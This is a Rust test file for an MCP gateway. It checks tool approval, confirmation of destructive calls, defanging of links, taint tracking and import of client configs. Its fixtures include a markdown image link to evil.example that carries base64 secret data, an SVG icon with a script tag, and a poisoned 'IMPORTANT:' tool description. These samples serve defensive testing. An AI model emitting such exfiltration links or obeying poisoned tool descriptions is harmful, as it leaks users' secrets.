//! What the user says of upstreams: what is offered, as what, who is asked, what is let through, what leaks.

use serde_json::json;

use super::super::Place;
use super::super::confirm::{answer, round};
use super::super::remote::Remote;
use super::super::wire::Wire;
use super::{Careless, approve, call, error, said, tools};

#[test]
fn tools_are_left_out_renamed_and_described_by_the_users_own_words_which_are_approved() {
    let more = "allow = [\"*o*\"]\ndeny = [\"pro*\"]\nrename = { show = \"look_at\" }\n[upstreams.docs.describe]\necho = \"Says the text again.\"";
    let Some(it) = Careless::new(more) else { return };
    let diff = it.place.ok(&["approvals", "diff"]);
    assert!(diff.contains("+ docs__look_at") && diff.contains("+ docs__echo"), "{diff}");
    assert!(
        !diff.contains("docs__probe") && !diff.contains("docs__wait") && !diff.contains("docs__show"),
        "{diff}"
    );
    // A person sees both descriptions.
    let shown = it.place.ok(&["approvals", "show", "docs__echo"]);
    assert!(shown.contains("Says the text again.") && shown.contains("Does echo."), "{shown}");
    it.place.ok(&["approvals", "accept", "docs__look_at", "docs__echo"]);
    let mut wire = Wire::initialized(&it.place);
    let listed = wire.request("tools/list", json!({}))["result"]["tools"].clone();
    let echo = listed.as_array().unwrap().iter().find(|t| t["name"] == "docs__echo").unwrap().clone();
    assert!(echo["description"].as_str().unwrap().starts_with("Says the text again.\n"), "{echo}");
    assert_eq!(said(&mut wire, "docs__echo", &json!({ "text": "hi" })), "hi");
    let content = json!([{ "type": "text", "text": "looked" }]);
    assert_eq!(said(&mut wire, "docs__look_at", &json!({ "content": content })), "looked");
    wire.finish();
    // Other words are another definition, and what is taken out is not there.
    it.configure(&more.replace("again.", "again, always."));
    let mut wire = Wire::initialized(&it.place);
    let refused = error(&call(&mut wire, "docs__echo", &json!({ "text": "hi" })));
    assert_eq!(refused["code"], "approval_required", "{refused}");
    wire.finish();
    it.configure(&more.replace("pro*", "*"));
    let mut wire = Wire::initialized(&it.place);
    assert!(!wire.request("tools/list", json!({})).to_string().contains("docs__"));
    let gone = wire.request("tools/call", json!({ "name": "docs__echo", "arguments": {} }));
    assert_eq!(gone["error"]["code"], -32602, "{gone}");
    wire.finish();
    // A new name that collides is told, and neither is offered.
    it.configure("rename = { show = \"echo\" }");
    let out = it.place.run(&["approvals", "diff"]);
    assert!(String::from_utf8_lossy(&out.stderr).contains("look alike or have one name"), "{out:?}");
    it.configure("rename = { show = \"s h o w\" }");
    assert!(it.place.fails(&["approvals", "diff"]).1.contains("rename"));
}

#[test]
fn what_a_server_and_a_program_are_told_of_is_told_apart() {
    let place = Place::new();
    for (wrong, why) in [
        ("command = \"x\"\nurl = \"https://docs.example/\"", "not both"),
        ("enabled = true", "not both"),
        ("command = \"x\"\ntoken-env = \"HOME\"", "beside a command"),
        ("url = \"https://docs.example/\"\nargs = [\"x\"]", "beside a url"),
        ("command = \"x\"\nreads = [\"relative\"]", "whole path"),
        ("command = \"x\"\nargs = [\"{root}\"]", "{root}"),
        ("command = \"\"", "names no program"),
    ] {
        place.configure(&format!("[upstreams.docs]\n{wrong}\n"));
        let (code, text) = place.fails(&["tools"]);
        assert!(code == 2 && text.contains(why), "{wrong}: {code} {text}");
    }
}

#[test]
fn m12_m30_links_that_carry_data_are_taken_apart_and_icons_go() {
    let Some(it) = Careless::new("") else { return };
    approve(&it.place, &["docs__show"]);
    let text = "![x](https://evil.example/p.png?d=c2VjcmV0LXRva2VuLWZyb20tYS1wcml2YXRl) and https://docs.example/guide";
    let icon = json!([{ "src": "data:image/svg+xml;base64,PHN2Zz48c2NyaXB0Lz48L3N2Zz4=" }]);
    let link = json!({ "type": "resource_link", "uri": "https://docs.example/one", "name": "one", "icons": icon, "_meta": { "x": "y" } });
    let content = json!([{ "type": "text", "text": text }, link]);
    let mut wire = Wire::initialized(&it.place);
    let result = call(&mut wire, "docs__show", &json!({ "content": content }));
    let message = result["structuredContent"]["message"].as_str().unwrap();
    assert!(
        message.contains("hxxps://evil.example") && message.contains("https://docs.example/guide"),
        "{message}"
    );
    let all = result["structuredContent"]["result"].to_string();
    assert!(all.contains("https://docs.example/one"), "{all}");
    assert!(!all.contains("icons") && !all.contains("svg") && !all.contains("_meta"), "{all}");
    let failed = error(&call(&mut wire, "docs__show", &json!({ "content": content, "isError": true })));
    assert!(!failed.to_string().contains("https://evil"), "{failed}");
    wire.finish();
    it.configure("defang = false");
    let mut wire = Wire::initialized(&it.place);
    assert!(said(&mut wire, "docs__show", &json!({ "content": content })).contains("https://evil.example"));
    wire.finish();
}

#[test]
fn what_says_that_it_may_destroy_is_asked_about_with_the_arguments() {
    let Some(it) = Careless::new("") else { return };
    let mut all = tools();
    all[3]["annotations"] = json!({ "destructiveHint": true });
    it.set(&json!({ "tools": all }));
    approve(&it.place, &["docs__echo", "docs__probe"]);
    let mut wire = Wire::initialized(&it.place);
    let refused = error(&call(&mut wire, "docs__echo", &json!({ "text": "all of it" })));
    assert_eq!(refused["code"], "confirmation_required", "{refused}");
    assert!(refused["suggestions"][0].as_str().unwrap().contains("gatewright call docs__echo"), "{refused}");
    assert_eq!(said(&mut wire, "docs__probe", &json!({ "what": "1" })), "1");
    wire.finish();
    let records = it.place.json(&["audit", "tail", "-n", "10", "--output", "json"]);
    assert!(records.to_string().contains("it says that it may destroy"), "{records}");
    // The user's own rule goes before what a server says of itself.
    for (more, is_asked) in [("confirm = \"never\"", false), ("confirm = \"writing\"", true)] {
        it.configure(more);
        let mut wire = Wire::initialized(&it.place);
        assert_eq!(
            call(&mut wire, "docs__echo", &json!({ "text": "x" }))["isError"] == json!(true),
            is_asked,
            "{more}"
        );
        wire.finish();
    }
    it.configure("[policy]\nrules = [{ tools = [\"docs__echo\"], decision = \"allow\" }]");
    let mut wire = Wire::initialized(&it.place);
    assert_eq!(said(&mut wire, "docs__echo", &json!({ "text": "x" })), "x");
    wire.finish();
}

#[test]
fn m20_who_agrees_to_a_call_that_may_destroy_agrees_to_its_arguments_and_to_no_others() {
    let Some(it) = Careless::new("") else { return };
    let mut all = tools();
    all[3]["annotations"] = json!({ "destructiveHint": true });
    it.set(&json!({ "tools": all }));
    approve(&it.place, &["docs__echo"]);
    let remote = Remote::start(&it.place);
    let asked = |text: &str| {
        let question = round(&remote, "docs__echo", &json!({ "text": text }), &json!({})).message();
        let result = &question["result"];
        assert_eq!(result["resultType"], "input_required", "{question}");
        let shown = result["inputRequests"]["confirm"]["params"]["message"].as_str().unwrap().to_owned();
        assert!(shown.contains(text) && shown.contains("Their hash: "), "{shown}");
        result["requestState"].as_str().unwrap().to_owned()
    };
    let state = asked("one file");
    let other =
        round(&remote, "docs__echo", &json!({ "text": "all files" }), &answer(&state, "accept")).message();
    assert_eq!(other["error"]["code"], -32602, "{other}");
    let own =
        round(&remote, "docs__echo", &json!({ "text": "one file" }), &answer(&state, "accept")).message();
    assert_eq!(own["result"]["structuredContent"]["message"], "one file", "{own}");
    let again =
        round(&remote, "docs__echo", &json!({ "text": "one file" }), &answer(&state, "accept")).message();
    assert_eq!(again["error"]["code"], -32602, "{again}");
    let declined =
        round(&remote, "docs__echo", &json!({ "text": "x" }), &answer(&asked("x"), "decline")).message();
    assert!(declined.to_string().contains("said no"), "{declined}");
    remote.finish();
}

#[test]
fn m22_what_an_upstream_says_of_keeping_its_list_is_not_passed_on_and_not_believed() {
    let Some(it) = Careless::new("") else { return };
    approve(&it.place, &["docs__echo"]);
    it.set(&json!({ "more": { "ttlMs": 1_234_567, "cacheScope": "public", "_meta": { "evil": true } } }));
    let mut wire = Wire::start(&it.place);
    let meta = super::super::wire::meta("2026-07-28");
    let params = json!({ "_meta": meta, "name": "docs__echo", "arguments": { "text": "hi" } });
    let answer = wire.request("tools/call", params.clone())["result"].clone();
    assert_eq!(answer["structuredContent"]["message"], "hi", "{answer}");
    let listed = wire.request("tools/list", json!({ "_meta": meta }))["result"].clone();
    assert_eq!(listed["cacheScope"], "private", "{listed}");
    assert_ne!(listed["ttlMs"], 1_234_567);
    assert_eq!(listed["_meta"]["evil"], json!(null));
    // It is asked again for the next call, whatever it allowed.
    let mut all = tools();
    all[3]["description"] = json!("IMPORTANT: something else.");
    it.set(&json!({ "tools": all }));
    let refused = error(&wire.request("tools/call", params)["result"]);
    assert_eq!(refused["code"], "approval_required", "{refused}");
    wire.finish();
}

#[test]
fn m26_a_session_that_saw_the_users_data_and_words_of_others_asks_before_it_tells() {
    let Some(it) = Careless::new("[policy]\ntaint = true") else { return };
    approve(&it.place, &["docs__echo"]);
    let text = json!({ "text": "hi" });
    let mut wire = Wire::initialized(&it.place);
    let look = json!({ "source": "tokens", "platforms": ["css"] });
    // Either alone is work.
    said(&mut wire, "docs__echo", &text);
    said(&mut wire, "docs__echo", &text);
    assert_eq!(call(&mut wire, "tokens_build", &look)["structuredContent"]["success"], true);
    let refused = error(&call(&mut wire, "docs__echo", &text));
    assert_eq!(refused["code"], "confirmation_required", "{refused}");
    // Looking goes on.
    assert_eq!(call(&mut wire, "tokens_build", &look)["structuredContent"]["success"], true);
    wire.finish();
    let records = it.place.json(&["audit", "tail", "-n", "10", "--output", "json"]);
    let last =
        records.as_array().unwrap().iter().find(|r| r["decision"].to_string().contains("taint")).unwrap();
    assert!(last["decision"].as_str().unwrap().contains("tokens_build"), "{last}");
    assert_eq!(last["labels"], json!(["untrusted", "egress"]));
    // Another session has seen nothing; where the user trusts its words, nothing is asked.
    let mut wire = Wire::initialized(&it.place);
    said(&mut wire, "docs__echo", &text);
    wire.finish();
    it.configure("labels = [\"private\"]\n[policy]\ntaint = true");
    let mut wire = Wire::initialized(&it.place);
    call(&mut wire, "tokens_build", &look);
    said(&mut wire, "docs__echo", &text);
    said(&mut wire, "docs__echo", &text);
    wire.finish();
    // Off by default.
    it.configure("");
    let mut wire = Wire::initialized(&it.place);
    said(&mut wire, "docs__echo", &text);
    call(&mut wire, "tokens_build", &look);
    said(&mut wire, "docs__echo", &text);
    wire.finish();
}

#[test]
fn servers_of_clients_files_are_taken_over_without_their_secrets_and_a_repositorys_only_when_it_is_named() {
    let place = Place::new();
    let home = place.scratch.path();
    std::fs::create_dir_all(home.join(".cursor")).unwrap();
    std::fs::create_dir_all(home.join(".codex")).unwrap();
    std::fs::write(
        home.join(".cursor/mcp.json"),
        r#"{ "mcpServers": { "My Docs": { "command": "/opt/docs", "args": ["--stdio"], "env": { "DOCS_KEY": "s3cr3t-value" } }, "npx one": { "command": "npx", "args": ["-y", "x"] } } }"#,
    )
    .unwrap();
    std::fs::write(
        home.join(".codex/config.toml"),
        "[mcp_servers.wiki]\nurl = \"https://wiki.example/mcp\"\n",
    )
    .unwrap();
    std::fs::write(
        place.root().join(".mcp.json"),
        r#"{ "mcpServers": { "theirs": { "command": "/root/evil" } } }"#,
    )
    .unwrap();
    place.configure("# mine\n[upstreams.wiki]\nurl = \"https://other.example/mcp\"");
    let shown = place.ok(&["upstreams", "import"]);
    for there in [
        "[upstreams.my_docs]",
        "env-from = { \"DOCS_KEY\" = \"DOCS_KEY\" }",
        "[upstreams.wiki_2]",
        "enabled = false",
        "Nothing was written",
    ] {
        assert!(shown.contains(there), "{there}: {shown}");
    }
    assert!(!shown.contains("s3cr3t") && !shown.contains("theirs"), "{shown}");
    let config = home.join("config/gatewright/config.toml");
    assert_eq!(std::fs::read_to_string(&config).unwrap().matches("[upstreams").count(), 1);
    let theirs = place.ok(&["upstreams", "import", "--from", "claude-code"]);
    assert!(theirs.contains("[upstreams.theirs]") && !theirs.contains("my_docs"), "{theirs}");
    place.ok(&["upstreams", "import", "--from", "cursor", "--apply"]);
    let text = std::fs::read_to_string(&config).unwrap();
    assert!(
        text.starts_with("# mine\n") && text.contains("[upstreams.my_docs]") && !text.contains("s3cr3t"),
        "{text}"
    );
    place.ok(&["config", "show"]);
    // It is taken back as long as it stands there as it was added, with everything else left as it is.
    std::fs::write(&config, format!("{text}# more of mine\n")).unwrap();
    place.ok(&["upstreams", "import", "--undo"]);
    let left = std::fs::read_to_string(&config).unwrap();
    assert!(left.starts_with("# mine\n") && left.ends_with("# more of mine\n"), "{left}");
    assert_eq!(left.matches("[upstreams").count(), 1, "{left}");
    assert!(place.fails(&["upstreams", "import", "--undo"]).1.contains("no import to take back"));
    place.ok(&["upstreams", "import", "--from", "cursor", "--apply"]);
    let text = std::fs::read_to_string(&config).unwrap();
    std::fs::write(&config, text.replace("/opt/docs", "/opt/others")).unwrap();
    assert!(place.fails(&["upstreams", "import", "--undo"]).1.contains("by hand"));
    std::fs::write(&config, text).unwrap();
    place.ok(&["upstreams", "import", "--undo"]);
    // Where there was no configuration there is none.
    std::fs::remove_file(&config).unwrap();
    place.ok(&["upstreams", "import", "--from", "cursor", "--apply"]);
    place.ok(&["upstreams", "import", "--undo"]);
    assert!(!config.exists());
    let (code, said) = place.fails(&["upstreams", "import", "--from", "nobody"]);
    assert!(code == 2 && said.contains("there are claude-code"), "{said}");
}
